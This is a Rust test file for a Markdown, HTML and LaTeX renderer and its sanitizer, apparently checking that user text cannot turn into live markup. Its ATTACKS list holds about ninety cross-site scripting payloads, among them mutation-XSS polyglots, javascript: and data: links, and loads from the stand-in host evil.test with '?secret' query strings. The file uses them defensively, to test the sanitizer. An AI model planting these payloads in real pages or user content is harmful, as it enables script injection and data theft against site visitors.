//! Text that tries to become more than text.

use proptest::prelude::*;

use super::super::render;
use super::super::sanitize::sanitize;
use super::markup::{self, assert_harmless, assert_rendered};

const ATTACKS: &[&str] = &[
    // Scripts, handlers and polyglots
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\"><svg/onload=alert(1)>",
    "'\"--></title></style></textarea></script><script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    // Foreign content and parsers that disagree
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline#http://evil.test\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><noscript><template><img src=x onerror=alert(1)></template></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template><template><iframe srcdoc='<script>alert(1)</script>'></template></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<table><td background=//evil.test/a.png><a href=javascript:alert(1)>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    // Things that load, leave or restyle
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<link rel=prefetch href=//evil.test/?secret>",
    "<style>@import url(//evil.test/a.css);</style>",
    "<p style=\"background:url(//evil.test/a.png)\">x</p>",
    "<form action=//evil.test><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.test/x.swf></object><embed src=//evil.test>",
    "<audio src=//evil.test/a.mp3 autoplay></audio><video poster=//evil.test/p.png></video>",
    "<img srcset=\"//evil.test/a.png 2x\"><picture><source srcset=//evil.test/a.png></picture>",
    "<a href=https://ok.test ping=//evil.test target=_blank>x</a>",
    "<div id=location name=cookie class=\"fixed inset-0\">x</div>",
    // Links and images in Markdown
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java&Tab;script&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\u{1}javascript:alert(1))",
    "[a](&#x6A&#x61;vascript:alert(1))",
    "[a](javascript://example.com/%0aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "[a](blob:https://ok.test/1)",
    "[a](file:///etc/passwd)",
    "[a](//evil.test/x)",
    "[a](\\\\evil.test\\x)",
    "[a](https://ok.test/\"onmouseover=\"alert(1))",
    "[a](https://ok.test 'x\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](https://evil.test/?q=secret)",
    "![a](//evil.test/?q=secret)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![\"><script>alert(1)</script>](https://ok.test/a.png \"\\\" onerror=alert(1)\")",
    "[![a](https://evil.test/a.png)](javascript:alert(1))",
    // Attributes and names that we write ourselves
    "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onload=\"alert(1)\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    // Formulas
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\operatorname{<img src=x onerror=alert(1)>}$",
    "$\\operatorname{</math><a href=https://evil.test>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\color{red\\\"onload=alert(1)}x$",
    "$\\unicode{<script>}$",
    "$a</math><script>alert(1)</script>$",
    "$$\\begin{array}{c\" onload=\"alert(1)}x\\end{array}$$",
    "$\\includegraphics{https://evil.test/a.png}$",
    "$\\class{fixed}{x}\\style{background:url(//evil.test)}{x}\\cssId{a}{x}$",
];

#[test]
fn no_attack_survives() {
    assert!(ATTACKS.len() >= 80);
    for attack in ATTACKS {
        for source in [
            (*attack).to_owned(),
            format!("text {attack} text"),
            format!("> - {attack}\n>   more"),
            format!("**{attack}**"),
            format!("# {attack}"),
        ] {
            assert_rendered(&render(&source), &source);
        }
    }
}

/// What is escaped must be seen as it was written; only a link's parts may look different.
#[test]
fn what_was_written_is_shown() {
    for attack in ATTACKS
        .iter()
        .filter(|attack| attack.starts_with("<s") || attack.starts_with("<i"))
    {
        let shown = markup::text(&render(attack));
        assert_eq!(shown.trim(), attack.trim(), "for {attack:?}");
    }
}

/// The sanitizer alone holds, too: a mistake in the renderer must not be enough.
#[test]
fn the_last_step_holds_by_itself() {
    for attack in ATTACKS {
        assert_harmless(&sanitize(attack), attack);
        assert_harmless(
            &sanitize(&format!("<p>{attack}</p><math><mtext>{attack}")),
            attack,
        );
    }
}

/// Pieces that parsers trip over, in any order.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "=",
        "/",
        "&",
        ";",
        "#",
        "`",
        "```",
        "~~~",
        "$",
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "[",
        "]",
        "(",
        ")",
        "!",
        "![",
        "](",
        "*",
        "**",
        "_",
        "~~",
        "|",
        "|-|",
        "\n",
        "\n\n",
        "\t",
        "    ",
        "- ",
        "1. ",
        "> ",
        "# ",
        "[^a]",
        "[^a]: ",
        "- [x] ",
        "---",
        "<!--",
        "-->",
        "<script>",
        "</script>",
        "<style>",
        "<svg>",
        "</svg>",
        "<math>",
        "</math>",
        "<mtext>",
        "<table>",
        "<a href=",
        "<img src=",
        "onerror=",
        "javascript:",
        "data:",
        "https://a.test/",
        "www.a.test",
        "a@b.test",
        "&lt;",
        "&#x6a;",
        "&colon;",
        "html",
        "math",
        "rust",
        "\\frac",
        "\\text",
        "{",
        "}",
        "^",
        "\\begin{matrix}",
        "\\end{matrix}",
        "\\left(",
        "\\right)",
        "\\\\",
        "\u{0}",
        "\u{202e}",
        "\u{feff}",
        "é",
        "𝕏",
        "a",
        "b1",
        " ",
    ]);
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_text_is_harmless(source in any::<String>()) {
        assert_rendered(&render(&source), &source);
    }

    #[test]
    fn any_mixture_of_syntax_is_harmless(source in pieces()) {
        assert_rendered(&render(&source), &source);
    }

    #[test]
    fn any_formula_is_harmless(latex in r"(\\(frac|sqrt|hat|text|left|right|begin\{matrix\}|end\{matrix\}|begin\{array\}\{c\|r\}|end\{array\}|operatorname|mathbb|sum|limits|not|over|color\{red\}|hspace\{-1em\}|[a-z]{1,5}|[^a-z])|[{}^_&a-z0-9<>'()\[\]|+=-]| ){0,30}") {
        let source = format!("```math\n{latex}\n```");
        assert_rendered(&render(&source), &source);
    }
}
